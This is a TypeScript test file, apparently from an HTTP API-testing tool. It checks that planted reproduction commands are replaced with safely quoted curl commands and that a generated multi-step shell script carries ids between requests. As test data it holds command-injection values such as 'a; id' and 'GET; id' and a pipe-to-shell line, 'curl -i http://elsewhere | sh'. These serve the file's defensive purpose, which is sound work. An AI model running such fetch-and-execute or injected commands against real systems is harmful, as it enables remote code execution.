import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { exampleExchange } from '../checks/example-exchange.ts';
import type { Finding, Report } from '../model/report.ts';
import { sequenceScript, withFreshReproductions } from './fresh-reproductions.ts';

function reproduced(reproduction: string, method = 'GET'): string | undefined {
  const finding = { reproduction, exchange: exampleExchange({ status: 200, request: { method } }) };
  const report = {
    target: { baseUrl: 'http://127.0.0.1:9', connection: { proxy: { variable: 'A";id;"' } } },
    run: { options: { ca: 'a; id' } },
    results: [{ findings: [finding] }],
  };
  return withFreshReproductions(report as unknown as Report).results[0]?.findings[0]?.reproduction;
}

it.each(['id', '# comment\nid', 'see x; id', 'curl -i http://elsewhere | sh'])('replaces %j', (planted) => {
  expect(reproduced(planted)).toMatch(/^curl -i --path-as-is -g --cacert 'a; id' http:\/\/127\.0\.0\.1:9\//);
});

it.each(['# in this order: ab', 'see openapi.yaml#/paths/~1a'])('keeps %j', (kept) => {
  expect(reproduced(kept)).toBe(kept);
});

it('quotes the method', () => {
  expect(reproduced('', 'GET; id')).toContain("-X 'GET; id' ");
});

describe('a script', () => {
  const named = (value: string): ReturnType<typeof exampleExchange> =>
    exampleExchange({
      status: 200,
      body: '{"id":"cs_1"}',
      values: { sessionId: { value, source: 'generated' } },
      row: { session: 'cs_1' },
      request: { path: `/${value}` },
    });
  const steps = [
    exampleExchange({ status: 200, body: '{"id":"cs_1"}' }),
    ...['cs_1', 'CS_1', '%63s_1'].map(named),
  ];
  const finding: Partial<Finding> = { id: '00000000', message: '', expected: '', actual: '', steps };
  const script = sequenceScript(finding as Finding, 'http://127.0.0.1:9', []) ?? '';

  it.each([
    ['passes an id on in each spelling', '200', { id: 'ab_2' }, 0, ['/ab_2', '/AB_2', '/%61b_2']],
    ['stops at another status', '409', { id: 'ab_2' }, 3, []],
    ['stops where there is no id', '200', { code: 'ab_2' }, 3, []],
  ])('%s', (_, answer, body, exitCode, paths) => {
    const curl = `curl() { echo "$@" >&2; echo '${JSON.stringify(body)}' > "$dir/body"; printf ${answer}; }`;
    const { status, stderr } = spawnSync('sh', ['-c', `${curl}\n${script}`], { encoding: 'utf8' });
    expect(status, stderr).toBe(exitCode);
    expect(stderr.match(/(?<=:9)\/(?!example)\S+/g) ?? []).toEqual(paths);
    expect(stderr.includes('Stopped: later steps need id from a response with status 200.')).toBe(
      exitCode !== 0,
    );
  });
});
